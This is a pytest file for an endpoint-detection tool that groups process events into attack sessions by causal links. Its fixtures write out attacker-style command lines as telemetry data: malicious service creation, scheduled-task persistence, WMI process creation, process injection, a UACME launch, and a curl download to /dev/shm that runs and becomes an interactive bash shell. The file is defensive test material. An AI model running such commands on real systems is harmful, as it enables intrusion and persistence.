"""Scenes are sessions: cut at the operating system's launchers, joined by who really caused a process."""

import time

import numpy as np
import pytest

from tests.film.staged import batch, did, launch
from watchfloor.base.events import Row
from watchfloor.film import screen as screens
from watchfloor.film.filming import Reel, film
from watchfloor.film.screen import pool
from watchfloor.store.spool import Spool

SVC = "C:\\Windows\\System32\\services.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"


def _film(*rows: Row) -> Reel:
    return film([batch(*rows)], screens.blank(), Spool(1 << 30))


def _together(reel: Reel, *uids: str) -> bool:
    numbers = [reel.cast.number_of(u) for u in uids]
    assert None not in numbers
    return len({int(reel.casting.scene[n]) for n in numbers if n is not None}) == 1


def test_children_play_with_their_parent_and_launchers_children_alone() -> None:
    reel = _film(
        launch("sh1", f"exp {EXPLORER}", CMD, "cmd", 1),
        launch("kid", f"sh1 {CMD}", "C:\\Windows\\System32\\whoami.exe", "whoami", 2),
        launch("sh2", f"exp {EXPLORER}", CMD, "cmd", 3),
    )
    assert _together(reel, "sh1", "kid")
    assert not _together(reel, "sh1", "sh2")


def test_two_children_of_a_shell_nobody_saw_start_play_together() -> None:
    reel = _film(
        launch("one", f"old {CMD}", "C:\\a.exe", "a", 1),
        launch("two", f"old {CMD}", "C:\\b.exe", "b", 2),
    )
    assert _together(reel, "one", "two")


def test_a_service_plays_with_who_installed_it() -> None:
    reel = _film(
        launch("sh", f"exp {EXPLORER}", CMD, "cmd", 1),
        launch(
            "sc",
            f"sh {CMD}",
            "C:\\Windows\\System32\\sc.exe",
            "sc create upd binPath= C:\\Temp\\evil.exe start= auto",
            2,
        ),
        did("registry.value", "svc", SVC, 2, reg_key__path="HKLM\\System\\CurrentControlSet\\Services\\upd\\ImagePath"),
        launch("evil", f"svc {SVC}", "C:\\Temp\\evil.exe", "C:\\Temp\\evil.exe", 9),
        launch("spool", f"svc {SVC}", "C:\\Windows\\System32\\spoolsv.exe", "spoolsv.exe", 9),
    )
    assert _together(reel, "sh", "sc", "evil")
    assert not _together(reel, "sc", "spool")


def test_a_scheduled_task_plays_with_who_scheduled_it() -> None:
    reel = _film(
        launch("ps", f"exp {EXPLORER}", CMD, "cmd", 1),
        launch(
            "st",
            f"ps {CMD}",
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks /create /tn u /tr C:\\Users\\a\\run.bat /sc minute",
            2,
        ),
        did("file.create", "sch", SVCHOST, 2, file__path="C:\\Windows\\System32\\Tasks\\u"),
        launch("run", f"sch {SVCHOST}", CMD, "cmd /c C:\\Users\\a\\run.bat", 60),
        launch("other", f"sch {SVCHOST}", CMD, "cmd /c C:\\Windows\\other.bat", 61),
    )
    assert _together(reel, "ps", "run")
    assert not _together(reel, "run", "other")


def test_wmi_plays_with_who_called_it() -> None:
    wmi = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
    reel = _film(
        launch(
            "w",
            f"exp {EXPLORER}",
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            'wmic process call create "C:\\Temp\\x.exe"',
            1,
        ),
        did("module.load", "prv", wmi, 1, file__path="C:\\Windows\\System32\\wbem\\fastprox.dll"),
        launch("x", f"prv {wmi}", "C:\\Temp\\x.exe", "C:\\Temp\\x.exe", 2),
    )
    assert _together(reel, "w", "x")


def test_an_injected_program_plays_with_the_injector_but_the_system_does_not() -> None:
    reel = _film(
        launch("bad", f"exp {EXPLORER}", "C:\\Temp\\inj.exe", "inj", 1),
        launch("note", f"exp {EXPLORER}", "C:\\Windows\\System32\\notepad.exe", "notepad", 1),
        did(
            "process.inject",
            "bad",
            "C:\\Temp\\inj.exe",
            3,
            process__uid="note",
            process__file__path="C:\\Windows\\System32\\notepad.exe",
        ),
        did("file.create", "sys", SVCHOST, 3, file__path="C:\\x"),
        did("process.inject", "bad", "C:\\Temp\\inj.exe", 4, process__uid="sys", process__file__path=SVCHOST),
    )
    assert _together(reel, "bad", "note")
    assert not _together(reel, "bad", "sys")


def test_a_dropped_file_plays_with_who_dropped_it() -> None:
    reel = _film(
        launch("word", f"exp {EXPLORER}", "C:\\Program Files\\Office\\winword.exe", "winword", 1),
        did(
            "file.create",
            "word",
            "C:\\Program Files\\Office\\winword.exe",
            2,
            file__path="C:\\Users\\a\\AppData\\Roaming\\d.exe",
        ),
        launch("d", f"exp {EXPLORER}", "C:\\Users\\a\\AppData\\Roaming\\d.exe", "d", 5),
    )
    assert _together(reel, "word", "d")


def test_a_cause_after_the_effect_is_no_cause() -> None:
    reel = _film(
        did("file.create", "svc", SVC, 1, file__path="C:\\x"),
        launch("evil", f"svc {SVC}", "C:\\Temp\\evil.exe", "C:\\Temp\\evil.exe", 1),
        launch(
            "sc", f"exp {EXPLORER}", "C:\\Windows\\System32\\sc.exe", "sc create upd binPath= C:\\Temp\\evil.exe", 500
        ),
    )
    assert not _together(reel, "sc", "evil")


def test_parents_in_a_circle_end() -> None:
    reel = _film(launch("a", f"b {CMD}", CMD, "cmd", 1), launch("b", f"a {CMD}", CMD, "cmd", 1))
    assert _together(reel, "a", "b")
    assert len(reel.casting.roots) == 1


def test_repeating_a_frame_never_raises_a_verdict() -> None:
    bag = np.zeros(5, np.int64)
    logit = np.asarray([1, 1, 1, 1, -2], np.float32)
    many = pool(bag, 1, np.asarray([7, 7, 7, 7, 8], np.uint64), logit)
    once = pool(bag[:2], 1, np.asarray([7, 8], np.uint64), logit[[0, 4]])
    assert np.allclose(many, once)


def test_pooling_ranks_inside_each_bag() -> None:
    bag = np.asarray([1, 0, 1, 0, 1], np.int64)
    found = pool(bag, 3, np.arange(5, dtype=np.uint64), np.asarray([3, -1, 2, 5, -4], np.float32))
    assert found.shape == (3, 3)
    assert found[0].tolist() == pytest.approx([5, 2, np.log1p(2)])
    assert found[1].tolist() == pytest.approx([3, 1 / 3, np.log1p(3)])
    assert found[2, 0] == -20


def _linux(uid: str, parent: str, image: str, command: str, at: int) -> Row:
    return launch(uid, parent, image, command, at) | {"device.os": "linux"}


def test_each_job_of_cron_is_a_scene_with_its_own_login() -> None:
    cron = "/usr/sbin/cron"
    rows: list[Row] = []
    for n in range(3):
        rows.append(did("logon.success", f"fork{n}", cron, n, actor__process__parent_process__uid="ws-1/9@?"))
        rows.append(_linux(f"job{n}", f"fork{n} {cron}", "/usr/bin/dash", "/bin/sh -c job", n + 1))
    reel = _film(*rows)
    assert _together(reel, "fork0", "job0")
    assert not _together(reel, "job0", "job1")


def test_each_connection_to_a_server_from_before_is_a_scene() -> None:
    app = "/usr/bin/python3.11"
    rows: list[Row] = []
    for n in range(2):
        served = did("file.read", f"fork{n}", app, n, file__path="/x", actor__process__parent_process__uid="ws-1/7@?")
        rows.append(served | {"actor.process.cmd_line": "python3 /srv/app.py"})
        rows.append(_linux(f"kid{n}", f"fork{n} {app}", "/usr/bin/dash", "sh -c id", n + 1))
    rows.append(did("network.listen", "ws-1/7@?", app, 0) | {"actor.process.cmd_line": "python3 /srv/app.py"})
    reel = _film(*rows)
    assert _together(reel, "fork0", "kid0")
    assert not _together(reel, "kid0", "kid1")


def test_a_script_dropped_earlier_ties_even_a_process_that_has_become_another_program() -> None:
    reel = _film(
        _linux("get", "sh0 /usr/bin/bash", "/usr/bin/curl", "curl -o /dev/shm/.x/c.py http://10.0.0.9/c.py", 1),
        did("file.create", "get", "/usr/bin/curl", 1, file__path="/dev/shm/.x/c.py"),
        _linux("run", "init /sbin/init", "/usr/bin/python3.11", "python3 /dev/shm/.x/c.py 10.0.0.9", 2),
        _linux("run", "init /sbin/init", "/usr/bin/bash", "bash -i", 3),
    )
    assert _together(reel, "get", "run")


def test_a_batch_without_any_launch_is_filmed() -> None:
    reel = _film(did("file.read", "a", CMD, 1, file__path="c:\\x"), did("dns.query", "a", CMD, 2))
    assert len(reel.runs) == 2


def test_a_process_that_rewrites_its_image_path_stays_what_was_launched() -> None:
    uacme = "C:\\Users\\a\\Desktop\\uacme.exe"
    reel = _film(
        launch("u", f"sh {CMD}", uacme, "uacme 34", 1),
        did("registry.value", "u", EXPLORER, 2, reg_key__path="HKCU\\Environment\\windir"),
        launch("st", f"u {uacme}", "C:\\Windows\\System32\\schtasks.exe", "schtasks /run", 3),
    )
    number = reel.cast.number_of("u")
    assert number is not None and reel.cast.owners[number].image == uacme
    assert _together(reel, "u", "st")


def test_reading_a_file_is_not_running_it() -> None:
    reel = _film(
        _linux("mk", "init /sbin/init", "/usr/bin/tar", "tar czf /tmp/a.tgz .", 1),
        did("file.create", "mk", "/usr/bin/tar", 1, file__path="/tmp/a.tgz"),
        _linux("ls", "init /sbin/init", "/usr/bin/ls", "ls -l /tmp/a.tgz", 2),
    )
    assert not _together(reel, "mk", "ls")


def test_hostile_texts_and_floods_of_tasks_are_linked_in_time() -> None:
    task = "C:\\Windows\\System32\\schtasks.exe"
    rows = [
        launch(f"t{n}", f"sh {CMD}", task, f"schtasks /create /tn {n} /tr C:\\Temp\\x.exe " + "sc " * 3_000, n)
        for n in range(300)
    ]
    rows.append(did("file.read", "sch", SVCHOST, 1, file__path="c:\\x"))
    rows += [
        launch(f"x{n}", f"sch {SVCHOST}", "C:\\Temp\\x.exe", "x.exe " + "a" * 200_000, 400 + n) for n in range(300)
    ]
    began = time.process_time()
    reel = _film(*rows)
    assert time.process_time() - began < 30
    assert _together(reel, "t299", "x0", "x2")
    assert not _together(reel, "t299", "x3"), "what a task starts again and again is the host's own"
